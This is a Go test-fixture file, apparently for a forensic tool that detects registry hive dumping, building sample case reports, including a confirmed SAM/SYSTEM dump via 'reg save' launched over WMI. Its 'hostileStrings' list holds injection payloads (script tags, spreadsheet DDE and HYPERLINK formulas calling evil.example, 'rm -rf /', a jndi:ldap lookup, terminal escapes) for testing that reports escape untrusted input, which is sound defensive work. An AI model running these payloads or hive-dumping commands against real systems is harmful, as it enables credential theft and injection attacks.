@@ -1,0 +1,348 @@
+package report
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"hivetriage/artifacts"
+	"hivetriage/triage"
+	"hivetriage/triage/command"
+	"hivetriage/triage/correlate"
+	"hivetriage/triage/coverage"
+	"hivetriage/triage/guide"
+	"hivetriage/triage/locate"
+	"hivetriage/triage/rule"
+)
+
+const (
+	sampleImage  = "/evidence/WS-041.E01"
+	sampleVolume = "ewf/gpt:2"
+	securityLog  = "/Windows/System32/winevt/Logs/Security.evtx"
+	sysmonLog    = "/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
+)
+
+// at is a time on the day of the samples, in Windows resolution.
+func at(hour, minute, second, ticks int) time.Time {
+	return time.Date(2026, 11, 3, hour, minute, second, ticks*100, time.UTC)
+}
+
+func digest(c string) string { return strings.Repeat(c, 32) }
+
+// sampleCases are the cases of the golden files.
+func sampleCases() map[string]*triage.Case {
+	return map[string]*triage.Case{
+		"confirmed": confirmedCase(),
+		"clean":     cleanCase(),
+		"hostile":   hostileCase(),
+		"empty":     {Schema: triage.Schema, SchemaVersion: triage.SchemaVersion, Verdict: "none"},
+	}
+}
+
+func caseFrame() *triage.Case {
+	return &triage.Case{
+		Schema: triage.Schema, SchemaVersion: triage.SchemaVersion,
+		Tool: triage.Tool{Name: "hivetriage", Version: "0.1.0", Commit: "f26eeea", RulesSHA256: digest("5e")},
+		Run: triage.RunInfo{
+			Started:     time.Date(2026, 11, 22, 21, 14, 7, 0, time.UTC),
+			Finished:    time.Date(2026, 11, 22, 21, 14, 19, 500e6, time.UTC),
+			CommandLine: "hivetriage --image /evidence/WS-041.E01 --html report.html --json case.json --hash",
+		},
+		Inputs: []artifacts.Input{{
+			Path: sampleImage, Kind: "ewf", Size: 256060514304, SHA256: digest("c4"),
+			Segments: []string{"WS-041.E01", "WS-041.E02"},
+			Stored:   map[string]string{"md5": strings.Repeat("9", 32), "sha1": strings.Repeat("7", 40)},
+		}},
+		Hosts: []triage.Host{{
+			Name: "WS-041", Because: []string{"SYSTEM\\ControlSet001\\Control\\ComputerName", "Computer of 48,211 records in Security.evtx"},
+			MachineSID: "S-1-5-21-1004336348-1177238915-682003330", Domain: "corp.example",
+			OS: "Windows 11 Pro 23H2 (22631)", TimeZone: "W. Europe Standard Time (UTC+1)",
+		}},
+	}
+}
+
+func confirmedCase() *triage.Case {
+	c := caseFrame()
+	c.Verdict = "confirmed"
+	c.Summary = []string{
+		"On 3 November 2026 at 02:14:09 UTC the account CORP\\svc-backup copied the SAM and SYSTEM hives of WS-041 with reg.exe.",
+		"The copies hold the password material of all local accounts of this computer.",
+		"Both files are still readable on the image; the SAM copy was moved to the Recycle Bin 11 minutes later.",
+		"Whether the copies left the computer cannot be told from this evidence.",
+	}
+	c.Exports = []locate.Export{sampleSAM(), sampleSYSTEM()}
+	c.KnownCopies = []locate.Export{sampleRegBack()}
+	c.Records = sampleRecords()
+	c.Acts = []correlate.Act{sampleAct()}
+	c.Exposure = []triage.Exposure{
+		{Act: "act-1", Kind: "local account", Name: "WS-041\\Administrator", Recoverable: "yes", Because: "in the copied SAM; the SYSTEM copy holds the boot key"},
+		{Act: "act-1", Kind: "local account", Name: "WS-041\\helpdesk", Recoverable: "yes", Because: "in the copied SAM; the SYSTEM copy holds the boot key"},
+		{Act: "act-1", Kind: "cached logon", Name: "CORP\\j.meyer", Recoverable: "no", Because: "SECURITY was not copied"},
+	}
+	c.Guide = sampleGuide()
+	c.Response = sampleResponse()
+	c.Timeline = []triage.Moment{
+		{Time: at(1, 58, 2, 1234567), What: "CORP\\svc-backup logged on over the network (type 3) from 10.20.4.77", Kind: "logon", Ref: "act-1"},
+		{Time: at(2, 13, 58, 0), What: "cmd.exe started by WmiPrvSE.exe", Kind: "process", Ref: "act-1"},
+		{Time: at(2, 14, 9, 4410002), What: "reg save HKLM\\SAM C:\\Users\\Public\\a.dat", Kind: "command", Ref: "rec-1"},
+		{Time: at(2, 14, 9, 5120010), What: "C:\\Users\\Public\\a.dat created", Kind: "file", Ref: "rec-3"},
+		{Time: at(2, 14, 9, 5120011), What: "SAM hive written to C:\\Users\\Public\\a.dat", Kind: "export", Ref: "exp-1"},
+		{Time: at(2, 14, 12, 90), What: "reg save HKLM\\SYSTEM C:\\Users\\Public\\b.dat", Kind: "command", Ref: "rec-2"},
+		{Time: at(2, 14, 12, 880000), What: "SYSTEM hive written to C:\\Users\\Public\\b.dat", Kind: "export", Ref: "exp-2"},
+		{Time: at(2, 25, 31, 0), What: "a.dat moved to the Recycle Bin", Kind: "file", Ref: "exp-1"},
+		{Time: at(2, 40, 0, 7), What: "The Security log was cleared", Kind: "log cleared", Ref: "rec-4"},
+		{Time: at(2, 41, 15, 0), What: "CORP\\svc-backup logged off", Kind: "logoff", Ref: "act-1"},
+	}
+	c.Coverage = sampleCoverage()
+	return c
+}
+
+func sampleSAM() locate.Export {
+	return locate.Export{
+		ID:   "exp-1",
+		At:   artifacts.Locator{Source: sampleImage, Volume: sampleVolume, Path: "/$Recycle.Bin/S-1-5-21-1004336348-1177238915-682003330-1105/$RQ3K7ZD.dat"},
+		Hive: "SAM", Form: "regf", State: "deleted", Size: 65536, SHA256: digest("a1"),
+		Times: locate.FileTimes{
+			SI: artifacts.Times{Created: at(2, 14, 9, 5120010), Modified: at(2, 14, 9, 5120011), Changed: at(2, 25, 31, 0), Accessed: at(2, 25, 31, 0)},
+			FN: artifacts.Times{Created: at(2, 14, 9, 5120010), Modified: at(2, 14, 9, 5120010)},
+		},
+		OwnerSID: "S-1-5-21-1004336348-1177238915-682003330-1105", MFTRecord: 118204,
+		Links:        []string{"/Users/Public/a.dat"},
+		IdentifiedBy: []string{"the root key holds SAM\\Domains\\Account\\Users", "the base block names \\SAM"},
+		Location:     locate.Location{Class: locate.Unexpected, Why: "no program is known to keep a SAM hive in the Recycle Bin"},
+		Provenance:   locate.Provenance{Method: "reg save", Confidence: "certain", Because: []string{"the base block has the form that RegSaveKey writes", "record rec-1 names this path"}},
+		Taken:        locate.Taken{NotBefore: at(2, 14, 9, 4410002), NotAfter: at(2, 14, 9, 5120011), Exact: at(2, 14, 9, 5120010), Because: []string{"the time in the base block"}},
+		BelongsTo:    locate.BelongsTo{Host: "WS-041", MachineSID: "S-1-5-21-1004336348-1177238915-682003330", Relation: "this host", Because: "the machine SID is that of the live SAM"},
+		Integrity:    locate.Integrity{Complete: true},
+	}
+}
+
+func sampleSYSTEM() locate.Export {
+	return locate.Export{
+		ID:   "exp-2",
+		At:   artifacts.Locator{Source: sampleImage, Volume: sampleVolume, Path: "/Users/Public/b.dat", Stream: "hidden"},
+		Hive: "SYSTEM", Form: "regf", State: "live", Size: 12189696, SHA256: digest("b2"),
+		Times:        locate.FileTimes{SI: artifacts.Times{Created: at(2, 14, 12, 880000)}},
+		IdentifiedBy: []string{"the root key holds ControlSet001 and Select"},
+		Location:     locate.Location{Class: locate.Alert, Why: "an alternate data stream is no place for a hive"},
+		Provenance:   locate.Provenance{Method: "RegSaveKey", Confidence: "likely", Because: []string{"no transaction logs and both sequence numbers 1"}},
+		Taken:        locate.Taken{NotBefore: at(2, 14, 12, 90), Because: []string{"the command started then"}},
+		BelongsTo:    locate.BelongsTo{Host: "WS-041", Relation: "this host", Because: "ComputerName in the copy"},
+		Integrity:    locate.Integrity{Complete: false, Problems: []string{"bin at 4,096 bytes: the list of subkeys ends early"}},
+	}
+}
+
+func sampleRegBack() locate.Export {
+	return locate.Export{
+		ID:   "known-1",
+		At:   artifacts.Locator{Source: sampleImage, Volume: sampleVolume, Path: "/Windows/System32/config/RegBack/SAM"},
+		Hive: "SAM", Form: "regf", State: "live", Size: 65536, SHA256: digest("d0"),
+		Location:   locate.Location{Class: locate.Informational, Why: "Windows kept copies here until version 1803"},
+		Provenance: locate.Provenance{Method: "unknown", Confidence: "unknown"},
+		BelongsTo:  locate.BelongsTo{Relation: "this host", Because: "the machine SID is that of the live SAM"},
+		Integrity:  locate.Integrity{Complete: true},
+	}
+}
+
+var sampleUser = artifacts.User{Name: "svc-backup", Domain: "CORP", SID: "S-1-5-21-1004336348-1177238915-682003330-1105", LogonID: "0x8a31f2"}
+
+func sampleProcess(hive, file string, pid uint32) *artifacts.Process {
+	return &artifacts.Process{
+		PID: pid, EntityID: fmt.Sprintf("{6FB54F9A-1C2D-6728-%04X-000000001200}", pid),
+		Executable:  `C:\Windows\System32\reg.exe`,
+		CommandLine: `reg  save HKLM\` + hive + ` C:\Users\Public\` + file + ` /y`,
+		Args:        []string{"reg", "save", `HKLM\` + hive, `C:\Users\Public\` + file, "/y"}, OriginalFileName: "reg.exe",
+		WorkingDirectory: `C:\Windows\system32\`, IntegrityLevel: "High",
+		Hashes: "SHA256=" + strings.ToUpper(digest("e9")),
+		Parent: &artifacts.Process{PID: 7004, Executable: `C:\Windows\System32\cmd.exe`, CommandLine: `cmd.exe /Q /c "reg save HKLM\SAM C:\Users\Public\a.dat /y"`},
+	}
+}
+
+func sampleRules(hive string) []rule.Match {
+	return []rule.Match{
+		{ID: "a7e7bfa3-088e-4f13-b29e-3986e0e756b8", Name: "Credential Acquisition via Registry Hive Dumping", Version: "6", Matched: hive == "SAM", Because: []string{
+			"event.type is start: held", "process.pe.original_file_name == \"reg.exe\": held, it is reg.exe",
+			"process.args has save or export: held, save", "process.args has hklm\\sam or hklm\\security: " + map[bool]string{true: "held", false: "not held, there is HKLM\\" + hive}[hive == "SAM"],
+		}},
+		{ID: "a7e7bfa3-088e-4f13-b29e-3986e0e756b8", Name: "Credential Acquisition via Registry Hive Dumping", Version: "current", Matched: true, Because: []string{"all four conditions held"}},
+	}
+}
+
+func sampleRecords() []correlate.Record {
+	command := func(hive, file string) []command.Command {
+		return []command.Command{{
+			Tool: "reg.exe", Verb: "save", Hives: []string{hive}, Key: `HKLM\` + hive, Destination: `C:\Users\Public\` + file,
+			Disguise: []string{"the file does not have an extension of a hive"}, Because: []string{"save writes the whole key with its values"}, Impact: "export",
+		}}
+	}
+	first := correlate.Record{
+		ID: "rec-1", Time: at(2, 14, 9, 4410002), Kind: "process", Host: "WS-041.corp.example", User: sampleUser, Technique: "T1003.002",
+		Hives: []string{"SAM"}, Destination: `C:\Users\Public\a.dat`, Process: sampleProcess("SAM", "a.dat", 5120), Commands: command("SAM", "a.dat"),
+		Assessment: "export", Because: []string{"reg save with HKLM\\SAM copies the account database"}, Rules: sampleRules("SAM"),
+		From: correlate.From{Source: sampleImage, Volume: sampleVolume, Path: securityLog, RecordID: 481223, Offset: 7348224, EventCode: "4688", Channel: "Security"},
+	}
+	second := correlate.Record{
+		ID: "rec-2", Time: at(2, 14, 12, 90), Kind: "process", Host: "WS-041.corp.example", User: sampleUser, Technique: "T1003.002",
+		Hives: []string{"SYSTEM"}, Destination: `C:\Users\Public\b.dat:hidden`, Process: sampleProcess("SYSTEM", "b.dat:hidden", 5188), Commands: command("SYSTEM", "b.dat:hidden"),
+		Assessment: "export", Because: []string{"reg save with HKLM\\SYSTEM copies the boot key"}, Rules: sampleRules("SYSTEM"),
+		From: correlate.From{Source: sampleImage, Volume: sampleVolume, Path: sysmonLog, RecordID: 9911, Offset: 88064, EventCode: "1", Channel: "Microsoft-Windows-Sysmon/Operational"},
+	}
+	file := correlate.Record{
+		ID: "rec-3", Time: at(2, 14, 9, 5120010), Kind: "file", Host: "WS-041.corp.example", User: sampleUser, Hives: []string{"SAM"},
+		Destination: `C:\Users\Public\a.dat`, Process: &artifacts.Process{PID: 5120, Executable: `C:\Windows\System32\reg.exe`},
+		Assessment: "export", Because: []string{"the file's path is an export's former path"},
+		From: correlate.From{Source: sampleImage, Volume: sampleVolume, Path: sysmonLog, RecordID: 9907, EventCode: "11", Damaged: "the chunk's checksum does not fit"},
+	}
+	benign := correlate.Record{
+		ID: "rec-4", Time: at(9, 2, 0, 0), Kind: "process", Host: "WS-041.corp.example", User: artifacts.User{Name: "SYSTEM", Domain: "NT AUTHORITY", SID: "S-1-5-18", LogonID: "0x3e7"},
+		Hives: []string{"SYSTEM"}, Process: &artifacts.Process{PID: 880, CommandLine: `reg export HKLM\SYSTEM\CurrentControlSet\Services\W32Time C:\t.reg`},
+		Assessment: "benign", Because: []string{"the key W32Time holds nothing that credentials are made of"},
+		From: correlate.From{Source: sampleImage, Volume: sampleVolume, Path: securityLog, RecordID: 481990, Offset: 9, EventCode: "4688"},
+	}
+	return []correlate.Record{first, second, file, benign}
+}
+
+func sampleAct() correlate.Act {
+	proc := sampleRecords()[0].Process
+	from := sampleRecords()[0].From
+	node := func(relation string, depth int, pid uint32, exe, line string, user artifacts.User, notes ...string) correlate.ChainNode {
+		return correlate.ChainNode{Relation: relation, Depth: depth, Time: at(2, 13, 58, int(pid)), User: user, From: &from, Joined: "by process GUID", Notes: notes,
+			Process: artifacts.Process{PID: pid, Executable: exe, CommandLine: line}}
+	}
+	service := artifacts.User{Name: "NETWORK SERVICE", Domain: "NT AUTHORITY", SID: "S-1-5-20"}
+	return correlate.Act{
+		ID: "act-1", Start: at(2, 14, 9, 4410002), End: at(2, 14, 12, 880000), Verdict: "confirmed", Confidence: 97,
+		Hives: []string{"SAM", "SYSTEM"}, Exports: []string{"exp-1", "exp-2"}, Records: []string{"rec-1", "rec-2", "rec-3"},
+		For:     []string{"A command that copies SAM and the file it names were both found.", "The file's creation time is 71 ms after the command's start.", "The command was started through WMI, as remote dumping tools do."},
+		Against: []string{"The account is a backup account; a backup job may save hives."},
+		Attack:  []string{"T1003.002", "T1003.004"}, Actor: sampleUser,
+		Chain: []correlate.ChainNode{
+			node("ancestor", 0, 912, `C:\Windows\System32\svchost.exe`, `svchost.exe -k DcomLaunch -p`, service),
+			node("ancestor", 1, 6612, `C:\Windows\System32\wbem\WmiPrvSE.exe`, `wmiprvse.exe -secured -Embedding`, service, "a WMI provider that starts cmd.exe is unusual"),
+			node("ancestor", 2, 7004, `C:\Windows\System32\cmd.exe`, proc.Parent.CommandLine, sampleUser),
+			{Relation: "command", Depth: 3, Time: at(2, 14, 9, 4410002), Process: *proc, User: sampleUser, From: &from, Joined: "the record itself"},
+			node("sibling", 3, 5188, `C:\Windows\System32\reg.exe`, `reg  save HKLM\SYSTEM C:\Users\Public\b.dat:hidden /y`, sampleUser),
+			{Relation: "child", Depth: 4, Process: artifacts.Process{PID: 5190}, Joined: "by PID and time", Notes: []string{"known only from its own child's record"}},
+		},
+		Session: &correlate.Session{LogonID: "0x8a31f2", Start: at(1, 58, 2, 1234567), End: at(2, 41, 15, 0), User: sampleUser,
+			Logon: artifacts.Logon{Type: 3, SourceIP: "10.20.4.77", SourcePort: "50122", Workstation: "WS-007", Process: "NtLmSsp", Package: "NTLM", LinkedID: "0x8a31d0", Elevated: "yes"},
+			From:  []correlate.From{{Source: sampleImage, Volume: sampleVolume, Path: securityLog, RecordID: 481001, EventCode: "4624"}}},
+		Whereabouts: []correlate.Whereabouts{
+			{Path: `C:\Users\Public\a.dat`, State: "not found on this evidence"},
+			{Path: `C:\$Recycle.Bin\S-1-5-21-1004336348-1177238915-682003330-1105\$RQ3K7ZD.dat`, State: "deleted", SHA256: digest("a1"), Export: "exp-1"},
+			{Path: `C:\Users\Public\b.dat:hidden`, State: "live", SHA256: digest("b2"), Export: "exp-2"},
+		},
+	}
+}
+
+func sampleGuide() []guide.Answer {
+	return []guide.Answer{
+		{Step: "1", Question: "What is the execution chain, and is anything in it unknown?", Status: guide.Answered, Evidence: []string{"act-1", "rec-1"},
+			Answer: "svchost.exe started WmiPrvSE.exe, that started cmd.exe, and that started reg.exe (PID 5120).\nAll four files lie where Windows keeps them."},
+		{Step: "2", Question: "Which account did it, and should that account do such a thing?", Status: guide.NeedsPerson, Evidence: []string{"act-1"},
+			Answer: "CORP\\svc-backup, over the network from 10.20.4.77.", Next: []string{"Ask the owner of the backup service whether hives are saved with reg.exe."}},
+		{Step: "3", Question: "Does the account's owner confirm the activity?", Status: guide.NeedsPerson, Answer: "Ask: did you run reg.exe on WS-041 on 3 November at 02:14 UTC, from 10.20.4.77?"},
+		{Step: "4", Question: "Are there other alerts for this user and host in the 48 hours around it?", Status: guide.Partly, Answer: "The Security log was cleared 26 minutes later.", Evidence: []string{"rec-4"}, Next: []string{"Look up both in the alert store."}},
+		{Step: "5", Question: "Was the material exfiltrated or processed here?", Status: guide.NoEvidence, Answer: "No record of either; network logs are not on this evidence.", Next: []string{"Collect firewall logs for 10.20.4.77."}},
+		{Step: "6", Question: "Which accounts may be compromised?", Status: guide.Answered, Answer: "Every local account of WS-041, and CORP\\svc-backup itself.", Evidence: []string{"exp-1"}},
+	}
+}
+
+func sampleResponse() []guide.Action {
+	return []guide.Action{
+		{Step: "1", Action: "Open an incident", Target: "WS-041", Priority: 1, Because: "a confirmed dump of SAM and SYSTEM", Evidence: []string{"act-1"}},
+		{Step: "2", Action: "Isolate both computers", Target: "WS-041 and 10.20.4.77", Priority: 2, Because: "the act came over the network", Evidence: []string{"act-1"}},
+		{Step: "3", Action: "Reset the password", Target: "CORP\\svc-backup", Priority: 3, Because: "it was used for the act", Evidence: []string{"act-1"}},
+		{Step: "3", Action: "Reset the passwords of all local accounts", Target: "WS-041", Priority: 4, Because: "they are in the copied SAM", Evidence: []string{"exp-1"}},
+		{Step: "7", Action: "Forward the Security log", Target: "WS-041", Priority: 9, Because: "it was cleared after the act"},
+	}
+}
+
+func sampleCoverage() coverage.Coverage {
+	locator := func(path string) *artifacts.Locator {
+		return &artifacts.Locator{Source: sampleImage, Volume: sampleVolume, Path: path}
+	}
+	return coverage.Coverage{
+		Volumes: []coverage.VolumeRow{
+			{Source: sampleImage, Name: "ewf/gpt:1", Info: artifacts.VolumeInfo{FileSystem: "FAT32", Label: "SYSTEM", Offset: 1048576, Size: 104857600}},
+			{Source: sampleImage, Name: sampleVolume, Info: artifacts.VolumeInfo{FileSystem: "NTFS 3.1", Label: "Windows", Serial: "A4F2-91C7", Offset: 122683392, Size: 255934332928, ClusterSize: 4096},
+				Tally: artifacts.Tally{Files: 412887, Deleted: 1903, Streams: 431200, Examined: 398114, Empty: 32900, Failed: 2, Gone: 184, Bytes: 1935671296}},
+		},
+		Sources: []coverage.Row{
+			{What: "hive", At: locator("/Windows/System32/config/SAM"), State: coverage.Read, Bytes: 65536},
+			{What: "event log", At: locator(securityLog), State: coverage.Partial, From: at(0, 0, 1, 0), To: at(21, 3, 44, 1), Records: 48211, Bytes: 20975616, Why: "2 chunks have a wrong checksum", Gap: true},
+			{What: "event log", At: locator(sysmonLog), State: coverage.Read, From: at(0, 0, 0, 12), To: at(21, 3, 44, 0), Records: 10220, Bytes: 4198400},
+			{What: "volume", At: &artifacts.Locator{Source: sampleImage, Volume: "ewf/gpt:1"}, State: coverage.Unsupported, Why: "FAT32 is recognised and not read", Gap: true},
+			{What: "PowerShell log", State: coverage.Absent, Why: "no file of that name"},
+		},
+		Totals: coverage.Totals{Streams: 431200, Examined: 398114, Wanted: 16, Read: 14, Partial: 1, Unsupported: 1, Bytes: 1973442123},
+	}
+}
+
+func cleanCase() *triage.Case {
+	c := caseFrame()
+	c.Verdict, c.Complete = "none", true
+	c.Summary = []string{"No copy of SAM, SECURITY or SYSTEM and no command that makes one was found.", "Every stream and every log that could show one was read."}
+	c.KnownCopies = []locate.Export{sampleRegBack()}
+	c.Guide = []guide.Answer{{Step: "1", Question: "What is the execution chain, and is anything in it unknown?", Status: guide.NoEvidence, Answer: "There is no act to explain."}}
+	cov := sampleCoverage()
+	c.Coverage = coverage.Coverage{
+		Volumes: cov.Volumes[1:],
+		Sources: []coverage.Row{cov.Sources[0], cov.Sources[2]},
+		Totals:  coverage.Totals{Streams: 431200, Examined: 398114, Wanted: 2, Read: 2, Bytes: 1973442123},
+	}
+	return c
+}
+
+// hostileStrings are names and command lines as an attacker would write them
+// against a reader, a browser, a terminal or a spreadsheet.
+var hostileStrings = []string{
+	`</bdi></code><script>alert("x")</script><img src=x onerror=alert(1)>`,
+	"invoice\u202eTAD.exe \u2066\u200f\u200bhidden\u2069",
+	"\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\n\tnext\x00\x7f\u0085\u2028",
+	"=HYPERLINK(\"http://evil.example\",\"click\")",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"'; rm -rf / #$(id)`id`",
+	"{{.Case}} ${jndi:ldap://x} javascript:alert(1)",
+	"日本語のパス\\データ\\ｱｲｳ\u3164.dat e\u0301\u0301\u0301 👩\u200d💻",
+	"bad \xff\xfe utf-8",
+	strings.Repeat("A", 4096),
+	strings.Repeat(`C:\`+strings.Repeat("深", 40)+`\`, 30),
+}
+
+// hostileCase puts every hostile string into every place that evidence fills.
+func hostileCase() *triage.Case {
+	c := confirmedCase()
+	c.Verdict = "suspicious"
+	c.Hosts[0].Name, c.Hosts[0].Because = hostileStrings[1], hostileStrings
+	c.Inputs[0].Path = hostileStrings[5]
+	c.Summary = append(c.Summary, hostileStrings[:4]...)
+	for i, s := range hostileStrings {
+		e := sampleSAM()
+		e.ID, e.At.Source, e.At.Path, e.At.Stream = fmt.Sprintf("exp-h%d", i), hostileStrings[5], "/"+s, s
+		e.OwnerSID, e.Links, e.IdentifiedBy = s, []string{s}, []string{s}
+		e.BelongsTo.Host, e.Integrity.Problems = s, []string{s}
+		c.Exports = append(c.Exports, e)
+
+		r := sampleRecords()[0]
+		r.ID, r.Host, r.User.Name, r.Destination, r.From.Path = fmt.Sprintf("rec-h%d", i), s, s, s, "/"+s
+		r.Process = &artifacts.Process{Executable: s, CommandLine: s, Args: []string{s}, Parent: &artifacts.Process{CommandLine: s}}
+		r.Because, r.Rules[0].Because, r.Commands[0].Disguise = []string{s}, []string{s}, []string{s}
+		r.Commands[0].Key, r.Commands[0].Destination = s, s
+		c.Records = append(c.Records, r)
+
+		a := sampleAct()
+		a.ID, a.Exports, a.Records = fmt.Sprintf("act-h%d", i), []string{e.ID}, []string{r.ID, s}
+		a.For, a.Against, a.Actor.Name, a.Session.Logon.Workstation = []string{s}, []string{s}, s, s
+		a.Chain[0].Process = *r.Process
+		a.Whereabouts = []correlate.Whereabouts{{Path: s, State: "live"}}
+		c.Acts = append(c.Acts, a)
+
+		c.Exposure = append(c.Exposure, triage.Exposure{Act: a.ID, Kind: "local account", Name: s, Recoverable: "unknown", Because: s})
+		c.Timeline = append(c.Timeline, triage.Moment{Time: at(3, i, 0, 0), What: s, Kind: "file", Ref: e.ID})
+		c.Guide = append(c.Guide, guide.Answer{Step: "7", Question: s, Status: guide.Partly, Answer: s, Evidence: []string{e.ID, s}, Next: []string{s}})
+		c.Response = append(c.Response, guide.Action{Step: "2", Action: s, Target: s, Priority: 2, Because: s, Evidence: []string{s}})
+		c.Coverage.Sources = append(c.Coverage.Sources, coverage.Row{What: "hive", At: &artifacts.Locator{Source: hostileStrings[5], Path: "/" + s}, State: coverage.Failed, Why: s, Gap: true})
+	}
+	return c
+}
